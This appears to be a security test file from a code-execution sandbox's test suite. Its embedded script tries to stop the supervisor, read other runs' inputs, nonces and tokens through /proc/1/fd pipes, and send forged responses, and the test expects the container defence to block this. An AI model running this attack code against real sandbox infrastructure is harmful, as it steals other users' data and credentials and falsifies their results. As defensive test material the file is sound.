/*
Attack: write a forged request into the stdin of the supervisor. Its script stops the supervisor and reads every later
request (input, nonce, token) from the same pipe. It writes the input to the log and responds in place of the
supervisor.
Defence: the pipes of the container belong to the user of the supervisor; no run can open them, and none can stop the
supervisor.
Runs: 4
Expect: []
*/
import { constants, openSync, writeSync } from 'node:fs';
import { isFirstRun, report } from './attempts.js';

const THIEF = `
import { openSync, readSync, writeSync } from 'node:fs';
process.kill(process.ppid, 'SIGSTOP');
const requests = openSync('/proc/1/fd/0', 'r');
const answers = openSync('/proc/1/fd/1', 'w');
function read(count) {
  const bytes = Buffer.alloc(count);
  for (let have = 0; have < count; ) have += readSync(requests, bytes, have, count - have);
  return String(bytes);
}
for (;;) {
  const header = JSON.parse(read(parseInt(read(8), 16)));
  const stolen = read(header.inputBytes);
  const [nonce, token] = [read(32), read(32)];
  writeSync(2, '\\n' + header.begin + '\\n' + stolen + '\\n\\n' + nonce + '\\n');
  const result = '["forged"]';
  writeSync(answers, JSON.stringify({ exitCode: 0, nonce, stdoutBytes: result.length }) + '\\n' + result);
  writeSync(answers, 'ready ' + token + '\\n');
}`;

function request() {
  const header = JSON.stringify({
    language: 'bun',
    entry: 'thief.js',
    files: [{ path: 'thief.js', base64: btoa(THIEF) }],
    env: { ERRAND_OUT: '/tmp/out' },
    begin: '0'.repeat(32),
    inputBytes: 0,
    outputBytes: 1000,
    deadlineMs: 60_000,
    cpuMs: 60_000,
  });
  return header.length.toString(16).padStart(8, '0') + header + '1'.repeat(64);
}

if (isFirstRun()) {
  await report({ inject: () => writeSync(openSync('/proc/1/fd/0', constants.O_WRONLY), request()) });
} else {
  await report({});
}
